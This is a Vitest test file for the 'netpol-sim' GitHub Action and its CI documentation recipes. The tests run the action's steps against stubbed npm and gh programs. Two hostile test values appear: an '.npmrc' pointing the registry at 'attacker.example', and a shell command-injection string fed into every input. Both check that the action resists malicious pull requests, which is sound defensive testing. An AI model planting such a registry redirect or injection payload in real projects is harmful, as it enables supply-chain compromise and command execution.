import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { load } from 'js-yaml'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'

interface Step {
  readonly id?: string
  readonly if?: string
  readonly run: string
  readonly env: Readonly<Record<string, string>>
}
interface Action {
  readonly inputs: Readonly<Record<string, { readonly default: string }>>
  readonly runs: { readonly steps: readonly Step[] }
}

const ACTION = load(readFileSync('action.yml', 'utf8')) as Action
const SCRIPTS = readdirSync('ci/github').map((name) => `ci/github/${name}`)
const PATIENT = { encoding: 'utf8', timeout: 60_000 } as const

let folder = ''
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'netpol-sim-action-')))
  for (const name of ['bin', 'temp', 'checkout']) mkdirSync(join(folder, name))
  cpSync('fixtures/projects/vitest/k8s', join(folder, 'checkout/k8s'), { recursive: true })
  cpSync('fixtures/projects/vitest/netpol.lock', join(folder, 'checkout/netpol.lock'))
  mkdirSync(join(folder, 'checkout/.git'))
  writeFileSync(
    join(folder, 'checkout/netpol-tests.yaml'),
    'version: 1\ninputs: [k8s]\ntests:\n  - allow production/frontend -> production/backend:8080\n',
  )
  // What a pull request would do to a program that takes anything from the checkout
  writeFileSync(join(folder, 'checkout/.npmrc'), 'registry=https://attacker.example/\n')
  program(
    'npm',
    `echo "$PWD $*" >>"${folder}/npm.log"; mkdir -p node_modules; ln -s "${resolve('.')}" node_modules/netpol-sim`,
  )
  program('npx', `echo npx >>"${folder}/npm.log"; exit 1`)
  program(
    'gh',
    `printf '%s\\n' "$*" >>"${folder}/gh.log"
for word; do case $word in body=@*) cp "\${word#body=@}" "${folder}/body.md";; esac; done
case "$*" in
  *graphql*) echo 'github-actions[bot]';;
  *paginate*) cat "${folder}/comments" 2>/dev/null || true;;
  *) [ ! -e "${folder}/forbidden" ] || { echo 'HTTP 403' >&2; exit 1; };;
esac`,
  )
  event({ pull_request: { number: 7, head: { sha: 'abc123', repo: { full_name: 'team/shop' } } } })
})
afterEach(() => {
  rmSync(folder, { recursive: true })
})

/** Puts a program into the path of the action, before all others. */
function program(name: string, body: string): void {
  writeFileSync(join(folder, 'bin', name), `#!/usr/bin/env bash\n${body}\n`)
  chmodSync(join(folder, 'bin', name), 0o755)
}

function event(payload: object): void {
  writeFileSync(join(folder, 'event.json'), JSON.stringify({ repository: { full_name: 'team/shop' }, ...payload }))
}

/** Runs the steps of action.yml as GitHub does, until one fails. */
function act(inputs: Readonly<Record<string, string>> = {}, eventName = 'pull_request') {
  const outputs: Record<string, Record<string, string>> = {}
  let log = ''
  for (const step of ACTION.runs.steps) {
    const valueOf = (text: string) =>
      text.replace(
        /\$\{\{ (?:inputs\.([a-z-]+)|steps\.(\w+)\.outputs\.(\w+)) \}\}/g,
        (_, input?: string, id?: string, output?: string) =>
          input === undefined
            ? (outputs[id ?? '']?.[output ?? ''] ?? '')
            : (inputs[input] ?? ACTION.inputs[input]?.default ?? ''),
      )
    if (step.if !== undefined && (inputs['comment'] ?? 'true') !== 'true') continue
    const said = join(folder, 'output')
    writeFileSync(said, '')
    const { status, stdout, stderr } = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run], {
      ...PATIENT,
      cwd: join(folder, 'checkout'),
      env: {
        PATH: `${join(folder, 'bin')}:${process.env['PATH'] ?? ''}`,
        HOME: folder,
        GITHUB_ACTION_PATH: resolve('.'),
        GITHUB_WORKSPACE: join(folder, 'checkout'),
        GITHUB_EVENT_NAME: eventName,
        GITHUB_EVENT_PATH: join(folder, 'event.json'),
        GITHUB_REPOSITORY: 'team/shop',
        GITHUB_OUTPUT: said,
        GITHUB_STEP_SUMMARY: join(folder, 'summary.md'),
        RUNNER_TEMP: join(folder, 'temp'),
        ...Object.fromEntries(Object.entries(step.env).map(([name, text]) => [name, valueOf(text)])),
      },
    })
    log += stdout + stderr
    const lines = readFileSync(said, 'utf8')
      .split('\n')
      .filter((line) => line !== '')
    if (step.id !== undefined)
      outputs[step.id] = Object.fromEntries(
        lines.map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
      )
    if (status !== 0) return { status, log, outputs }
  }
  return { status: 0, log, outputs }
}

const written = (name: string) => (existsSync(join(folder, name)) ? readFileSync(join(folder, name), 'utf8') : '')
const breakPolicy = () => {
  const file = join(folder, 'checkout/k8s/production.yaml')
  writeFileSync(file, readFileSync(file, 'utf8').replace('port: 8080', 'port: 8081'))
}

/** Makes the checkout a repository of which `main` is the only commit. */
function repository(): { readonly checkout: string } {
  const checkout = join(folder, 'checkout')
  rmSync(join(checkout, '.git'), { recursive: true })
  const git = (...words: readonly string[]) => {
    const identity = ['-c', 'user.name=t', '-c', 'user.email=t@example.org', '-c', 'commit.gpgsign=false']
    const { status, stderr } = spawnSync('git', [...identity, ...words], { ...PATIENT, cwd: checkout })
    expect([stderr.replace(/^hint:.*$/gm, '').trim(), status]).toEqual(['', 0])
  }
  git('init', '-q', '-b', 'main')
  git('add', '-A')
  git('commit', '-q', '-m', 'first')
  return { checkout }
}

describe('the action', () => {
  test('passes where tests and lock file hold, with a summary and a new comment', () => {
    const { status, outputs } = act({ lock: 'netpol.lock' })
    expect([status, outputs['run']?.['code']]).toEqual([0, '0'])
    expect(written('summary.md')).toContain('**The lock file is up to date**')
    expect(written('gh.log')).toContain('--method POST repos/team/shop/issues/7/comments -F body=@')
    expect(written('body.md')).toMatch(/^<!-- netpol-sim comment netpol-sim -->\n/)
    expect(written('body.md')).toContain('<sub>commit abc123</sub>')
  })

  test('fails after the comment, which it changes where there is one', () => {
    breakPolicy()
    writeFileSync(join(folder, 'comments'), '41\n42\n')
    const { status, log } = act({ lock: 'netpol.lock' })
    expect(status).toBe(1)
    expect(log).toMatch(/^::error file=netpol-tests\.yaml/m)
    expect(log).toContain('FAIL')
    expect(written('gh.log')).toContain('--method PATCH repos/team/shop/issues/comments/41 ')
    expect(written('gh.log')).not.toContain('POST')
    expect(written('body.md')).toContain('+production/Pod/frontend\tproduction/Pod/backend\t8081/TCP')
    expect(written('body.md')).toContain(written('summary.md').trimEnd())
  })

  test('installs outside of the checkout, without scripts, and runs by path', () => {
    act({ version: '1.2.3' })
    expect(written('npm.log')).toMatch(
      new RegExp(`^${folder}/temp/netpol-sim\\.\\w+ install --ignore-scripts .*netpol-sim@1\\.2\\.3\\n$`),
    )
    expect(readdirSync(join(folder, 'checkout')).sort()).toEqual([
      '.git',
      '.npmrc',
      'k8s',
      'netpol-tests.yaml',
      'netpol.lock',
    ])
  })

  test('says once that a fork gets the summary only', () => {
    event({ pull_request: { number: 7, head: { sha: 'abc', repo: { full_name: 'somebody/shop' } } } })
    const { status, log } = act()
    expect(status).toBe(0)
    expect(log.match(/^::notice::.*fork/gm)).toHaveLength(1)
    expect(written('gh.log')).toBe('')
    expect(written('summary.md')).not.toBe('')
  })

  test('comments on nothing but pull requests, and not at all where it shall not', () => {
    act({ comment: 'false' })
    event({})
    expect(act({}, 'push').status).toBe(0)
    expect(written('gh.log')).toBe('')
  })

  test('a comment that may not be written changes nothing but a warning', () => {
    writeFileSync(join(folder, 'forbidden'), '')
    const { status, log } = act()
    expect(status).toBe(0)
    expect(log).toContain('::warning::the comment could not be written')
    breakPolicy()
    expect(act().status).toBe(1)
  })

  test.each<readonly [string, Readonly<Record<string, string>>, string]>([
    ['a missing assertion file', { files: 'nowhere.yaml' }, 'nowhere.yaml'],
    ['a flag that is none', { flags: '--stric' }, '--strict'],
    ['a missing lock file', { lock: 'other.lock' }, 'other.lock'],
  ])('never passes without an answer: %s', (_, inputs, words) => {
    const { status } = act(inputs)
    expect(status).toBe(2)
    expect(written('summary.md')).toContain(words)
    expect(written('body.md')).toContain(words)
  })

  test('takes what is given as words, and never as shell', () => {
    const evil = '$(touch pwned) `touch pwned`; touch pwned'
    act({ files: evil, manifests: evil, flags: evil, lock: evil, 'comment-id': evil })
    expect(existsSync(join(folder, 'checkout/pwned'))).toBe(false)
    expect(act({ 'comment-id': 'a b' })).toMatchObject({ status: 2 })
  })

  test('asks the assertions of another commit, and says so where there is none', () => {
    const { status } = act({ 'tests-from': 'origin/main...' })
    expect(status).toBe(2)
    expect(written('summary.md')).toContain('**netpol-sim test: no answer**')
  })

  test('adds what diff says, fails on what it shall, and never passes without an answer', () => {
    const { checkout } = repository()
    expect(act({ diff: 'main' }).status).toBe(0)
    expect(written('body.md')).toMatch(/no change|nothing changes|same/i)
    breakPolicy()
    writeFileSync(
      join(checkout, 'netpol-tests.yaml'),
      'version: 1\ninputs: [k8s]\ntests:\n  - allow production/frontend -> production/backend:8081\n',
    )
    const { status, log } = act({ diff: 'main' })
    expect([status, log.includes('8081/TCP')]).toEqual([0, true])
    expect(written('body.md')).toContain('8081/TCP')
    expect(act({ diff: 'main', 'fail-on': 'widened' }).status).toBe(1)
    expect(act({ diff: 'nowhere' }).status).toBe(2)
    expect(act({ diff: 'main', 'tests-from': 'main' }).status).toBe(1)
  })

  test('says in a comment that a report is too long for one, with the first line of each part, and has all of it in the summary', () => {
    const checkout = join(folder, 'checkout')
    const names = Array.from({ length: 300 }, (_, index) => `service-with-a-long-name-that-fills-the-report-${index}`)
    const deployment = (name: string) =>
      `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: ${name}, namespace: production}\nspec: {selector: {matchLabels: {app: ${name}}}, template: {metadata: {labels: {app: ${name}}}, spec: {containers: [{name: a, image: a}]}}}\n`
    const policy = (name: string) =>
      `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: ${name}, namespace: production}\nspec: {podSelector: {matchLabels: {app: ${name}}}, ingress: []}\n`
    writeFileSync(
      join(checkout, 'k8s/many.yaml'),
      names.flatMap((name) => [deployment(name), policy(name)]).join('---\n'),
    )
    repository()
    writeFileSync(join(checkout, 'k8s/many.yaml'), names.map(deployment).join('---\n'))
    const tests = names.map((name) => `  - deny production/frontend -> production/${name}:80`)
    writeFileSync(join(checkout, 'netpol-tests.yaml'), ['version: 1', 'inputs: [k8s]', 'tests:', ...tests].join('\n'))
    expect(act({ diff: 'main' }).status).toBe(1)
    const [body, summary] = [written('body.md'), written('summary.md')]
    expect(summary.length).toBeGreaterThan(65_536)
    expect(body.length).toBeLessThan(65_536)
    expect(body).toContain('too long for a comment')
    expect(body).toContain('300 failed')
    expect(body).toMatch(/netpol-sim diff: [\d,]+ connections opened/)
  })

  test('takes paths and flags one a line', () => {
    mkdirSync(join(folder, 'checkout/a b'))
    cpSync(join(folder, 'checkout/netpol-tests.yaml'), join(folder, 'checkout/a b/more.netpol-test.yaml'))
    const { status, log } = act({ files: 'a b\nnetpol-tests.yaml\n', manifests: 'k8s\r\n', flags: '-n\nproduction\n' })
    expect(log).toContain('2 passed (2)')
    expect(status).toBe(0)
  })
})

test('the recipe for a shell in docs/ci.md does what it says', () => {
  const document = readFileSync('docs/ci.md', 'utf8')
  const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { readonly version: string }
  const [, recipe = ''] = /```sh\n([^]*?)```/.exec(document) ?? []
  expect(recipe).toContain(`netpol-sim@${version}`)
  const sh = () =>
    spawnSync('sh', ['-e', '-c', recipe], {
      ...PATIENT,
      cwd: join(folder, 'checkout'),
      env: { PATH: `${join(folder, 'bin')}:${process.env['PATH'] ?? ''}`, HOME: folder, TMPDIR: join(folder, 'temp') },
    })
  expect(sh().status).toBe(0)
  expect(written('checkout/netpol-sim.xml')).toContain('<testsuites name="netpol-sim"')
  breakPolicy()
  expect(sh().status).toBe(1)
  expect(written('checkout/netpol-sim.xml')).toContain('<failure')
  expect(written('npm.log')).toMatch(/--ignore-scripts/)
  expect(written('npm.log')).not.toContain(join(folder, 'checkout'))
})

/** The commands of the recipes, as each system has them. */
const RECIPES: Readonly<Record<string, (blocks: readonly string[]) => string>> = {
  GitLab: ([yaml = '']) => (load(yaml) as { 'netpol-sim': { script: string[] } })['netpol-sim'].script.join('\n'),
  'Azure Pipelines': ([yaml = '']) =>
    (load(yaml) as { steps: { bash?: string }[] }).steps.flatMap(({ bash }) => bash ?? []).join('\n'),
  CircleCI: ([yaml = '']) =>
    (load(yaml) as { jobs: { policies: { steps: ({ run?: string } | string)[] } } }).jobs.policies.steps
      .flatMap((step) => (typeof step === 'string' ? [] : (step.run ?? [])))
      .join('\n'),
  Jenkins: ([groovy = '']) => /'''([^]*?)'''/.exec(groovy)?.[1] ?? '',
}

describe('docs/ci.md', () => {
  const document = readFileSync('docs/ci.md', 'utf8')
  const sectionOf = (title: string) => new RegExp(`\n## ${title}\n([^]*?)(?=\n## |$)`).exec(document)?.[1] ?? ''
  const blocksOf = (title: string) =>
    [...sectionOf(title).matchAll(/```\w+\n([^]*?)```/g)].map(([, block = '']) => block)

  const runs = (commands: string) =>
    spawnSync('bash', ['-eo', 'pipefail', '-c', commands], {
      ...PATIENT,
      cwd: join(folder, 'checkout'),
      env: { PATH: `${join(folder, 'bin')}:${process.env['PATH'] ?? ''}`, HOME: folder, TMPDIR: join(folder, 'temp') },
    })

  test.each(Object.entries(RECIPES))('has commands for %s that do what they say', (title, commandsOf) => {
    const commands = commandsOf(blocksOf(title))
    mkdirSync(join(folder, 'checkout/reports'))
    expect(runs(commands).status).toBe(0)
    breakPolicy()
    expect(runs(commands).status).toBe(1)
    const [report = ''] = /[\w/-]+\.xml/.exec(commands) ?? []
    expect(written(`checkout/${report}`)).toContain('<failure')
    expect(written('npm.log')).toMatch(/--ignore-scripts .*netpol-sim@\d/)
    expect(written('npm.log')).not.toContain(join(folder, 'checkout'))
    expect(commands).not.toContain('npx')
  })

  test('the job for GitLab takes the larger trouble for its exit code, and writes both reports', () => {
    const { 'netpol-sim': job } = load(readFileSync('ci/gitlab/netpol-sim.yml', 'utf8')) as {
      'netpol-sim': {
        script: string[]
        variables: Record<string, string>
        artifacts: { reports: Record<string, string> }
      }
    }
    const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { readonly version: string }
    expect(job.variables['NETPOL_VERSION']).toBe(version)
    const commands = (lock: string) => [`NETPOL_VERSION=${version}`, `NETPOL_LOCK=${lock}`, ...job.script].join('\n')
    expect(runs(commands('')).status).toBe(0)
    expect(Object.values(job.artifacts.reports).filter((file) => written(`checkout/${file}`) === '')).toEqual([])
    expect(runs(commands('missing.lock')).status).toBe(2)
    breakPolicy()
    expect(runs(commands('')).status).toBe(1)
  })

  test('names hooks for pre-commit that are there, and commands that netpol-sim has', () => {
    const hooks = load(readFileSync('.pre-commit-hooks.yaml', 'utf8')) as {
      id: string
      entry: string
      language: string
    }[]
    const { repos } = load(blocksOf('pre-commit')[0] ?? '') as { repos: { hooks: { id: string }[] }[] }
    expect(repos.flatMap((repo) => repo.hooks.map(({ id }) => id))).toEqual(hooks.map(({ id }) => id))
    expect(hooks.map(({ language }) => language)).toEqual(['node', 'node'])
    const [first, second] = hooks.map(({ entry }) =>
      entry.replace('netpol-sim', `node ${resolve('bin/netpol-sim.cjs')}`),
    )
    expect(runs(first ?? '').status).toBe(0)
    expect(runs(`${second ?? ''} -f k8s`).status).toBe(0)
    breakPolicy()
    expect([first, `${second ?? ''} -f k8s`].map((entry) => runs(entry ?? '').status)).toEqual([1, 1])
  })
})

describe('action.yml', () => {
  test('hands inputs to its scripts by the environment only', () => {
    expect(ACTION.runs.steps.filter(({ run }) => run.includes('${{'))).toEqual([])
  })

  test('uses every input, and has every input that it uses', () => {
    const text = readFileSync('action.yml', 'utf8')
    const used = new Set([...text.matchAll(/inputs\.([a-z-]+)/g)].map(([, name]) => name))
    expect([...used].sort()).toEqual(Object.keys(ACTION.inputs).sort())
  })

  test('gives the token to the step that comments, and to no other', () => {
    const withToken = ACTION.runs.steps.filter(({ env }) => JSON.stringify(env).includes('inputs.token'))
    expect(withToken.map(({ run }) => run)).toEqual(['bash "$GITHUB_ACTION_PATH/ci/github/comment.sh"'])
  })

  const hasShellcheck = spawnSync('shellcheck', ['--version']).status === 0
  test.skipIf(!hasShellcheck)('has scripts that are clean under shellcheck', () => {
    const { stdout, status } = spawnSync('shellcheck', SCRIPTS, PATIENT)
    expect([stdout, status]).toEqual(['', 0])
  })
})
